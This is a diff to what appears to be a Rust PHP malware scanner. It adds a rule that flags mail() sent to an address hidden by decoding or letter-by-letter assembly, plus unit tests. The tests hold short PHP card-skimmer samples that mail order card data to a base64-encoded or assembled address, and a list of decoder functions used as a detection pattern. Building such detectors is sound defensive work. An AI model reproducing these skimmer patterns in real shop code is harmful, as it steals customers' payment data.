@@ -99,6 +99,22 @@ static DATA_PATH: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i-u)\.(?:png|jpe?g|gif|ico|bmp|svg|webp|woff2?|ttf|mo|po)$").expect("pattern compiles")
 });
 
+/// Decoders that hide a text in the code.
+const DECODERS: &[&[u8]] = &[
+    b"base64_decode",
+    b"str_rot13",
+    b"strrev",
+    b"hex2bin",
+    b"gzinflate",
+    b"gzuncompress",
+    b"convert_uudecode",
+    b"chr",
+    b"pack",
+];
+
+/// Pieces of a table joined (`$t[6] . $t[7] . …`) that make a text assembled letter by letter.
+const MANY_PIECES: usize = 4;
+
 /// The most assignments of literals remembered to resolve paths.
 const MAX_LITERAL_VARS: usize = 64;
 
@@ -175,6 +191,9 @@ pub(super) fn analyze(text: &[u8], t: &[Token<'_>], o: Options) -> Vec<Shape> {
     if let Some(at) = restores_from_data(t) {
         out.push(Shape { why: Why::RestoresFromDisguise, danger: Danger::High, at });
     }
+    if let Some(at) = f.hidden_recipient {
+        out.push(Shape { why: Why::HiddenMailRecipient, danger: Danger::High, at });
+    }
     if let Some(at) = f.top_level_login
         && !f.login_checked
     {
@@ -212,6 +231,8 @@ struct Facts {
     antibot_include: Option<usize>,
     /// The visitor's address or browser read.
     visitor_read: bool,
+    /// `mail()` to an address that is decoded or assembled in the code.
+    hidden_recipient: Option<usize>,
 }
 
 /// The most variables holding credentials that are followed.
@@ -221,6 +242,7 @@ fn facts(text: &[u8], t: &[Token<'_>]) -> Facts {
     let mut f = Facts::default();
     let creds = credential_vars(t);
     let inputs = input_vars(t);
+    let hidden = hidden_vars(t);
     let budget = Budget::for_tokens(t.len());
     // Brace depth inside functions and classes: a login set there is the application's.
     let mut bodies: Vec<bool> = Vec::new();
@@ -269,6 +291,9 @@ fn facts(text: &[u8], t: &[Token<'_>]) -> Facts {
                     let args = budget.args(t, i + 1);
                     let to_visitor = args.first().is_some_and(|a| reads(a, &creds) || reads_request(a));
                     f.send_away |= !to_visitor;
+                    if f.hidden_recipient.is_none() && args.first().is_some_and(|a| hides_text(a, &hidden)) {
+                        f.hidden_recipient = Some(tok.at);
+                    }
                     let to_input = args.first().is_some_and(|a| reads_input(a, &inputs));
                     if to_input && f.mail_from_input.is_none() && args.iter().skip(1).any(|a| reads_input(a, &inputs)) {
                         f.mail_from_input = Some(tok.at);
@@ -331,6 +356,40 @@ fn facts(text: &[u8], t: &[Token<'_>]) -> Facts {
         }
     }
     f
+}
+
+/// Whether an expression decodes a text or assembles it from a table's pieces, or reads a
+/// variable assigned so (`hidden`).
+fn hides_text(e: &[Token<'_>], hidden: &[&[u8]]) -> bool {
+    let mut pieces = 0;
+    for (k, x) in e.iter().enumerate() {
+        match x.tok {
+            Tok::Ident(n) if is_op(e.get(k + 1), b"(") && DECODERS.iter().any(|d| n.eq_ignore_ascii_case(d)) => {
+                return true;
+            }
+            Tok::Var(v) if hidden.contains(&v) => return true,
+            Tok::Op(b"]") if is_op(e.get(k + 1), b".") => pieces += 1,
+            _ => {}
+        }
+    }
+    pieces >= MANY_PIECES
+}
+
+/// Variables assigned a decoded or assembled text (`$to = base64_decode('…')`).
+fn hidden_vars<'a>(t: &[Token<'a>]) -> Vec<&'a [u8]> {
+    let mut out: Vec<&'a [u8]> = Vec::new();
+    for (i, x) in t.iter().enumerate() {
+        let Tok::Var(v) = x.tok else { continue };
+        if !is_op(t.get(i + 1), b"=") || out.len() >= MAX_LITERAL_VARS || out.contains(&v) {
+            continue;
+        }
+        let end = t[i + 2..].iter().take(128).position(|y| is_op(Some(y), b";") || matches!(y.tok, Tok::Close));
+        let rhs = &t[i + 2..i + 2 + end.unwrap_or(0)];
+        if hides_text(rhs, &out) {
+            out.push(v);
+        }
+    }
+    out
 }
 
 /// A file that only assigns a few literals, one of them an email address: a phishing kit's
@@ -883,6 +942,24 @@ mod tests {
         assert!(found("<?php file_put_contents($thumb, file_get_contents($url));").is_empty());
     }
 
+    #[test]
+    fn mail_to_a_hidden_address_is_a_skimmer() {
+        let decoded =
+            "<?php $card = $order->getCard(); mail(base64_decode('Ym94QG1haWwuZXhhbXBsZQ=='), 'card', $card);";
+        assert_eq!(found(decoded), [Why::HiddenMailRecipient]);
+        let assembled = "<?php $t = array('b','o','x','@','m'); $to = $t[0] . $t[1] . $t[2] . $t[3] . $t[4] . '.example';\n\
+                         mail($to, 'new', $data);";
+        assert_eq!(found(assembled), [Why::HiddenMailRecipient]);
+    }
+
+    #[test]
+    fn mail_to_a_configured_or_looked_up_address_is_not_hidden() {
+        assert!(found("<?php mail($config['admin_email'], 'Order', $body);").is_empty());
+        // The subject encoded for mail headers is not the recipient.
+        assert!(found("<?php mail($to, '=?UTF-8?B?' . base64_encode($s) . '?=', $b);").is_empty());
+        assert!(found("<?php $to = $row['first'] . '@' . $row['domain']; mail($to, 'Hi', $b);").is_empty());
+    }
+
     /// The own-written fixtures of these families (the integration test sweeps them all) are
     /// reported for their family through `detect::judge`.
     #[test]
@@ -942,6 +1019,11 @@ mod tests {
                 "restores_code_from_picture.php",
                 include_str!("../../../tests/fixtures/sweep/malicious/restores_code_from_picture.php"),
                 Why::RestoresFromDisguise,
+            ),
+            (
+                "skimmer_hidden_recipient.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/skimmer_hidden_recipient.php"),
+                Why::HiddenMailRecipient,
             ),
         ];
         for (name, src, why) in cases {
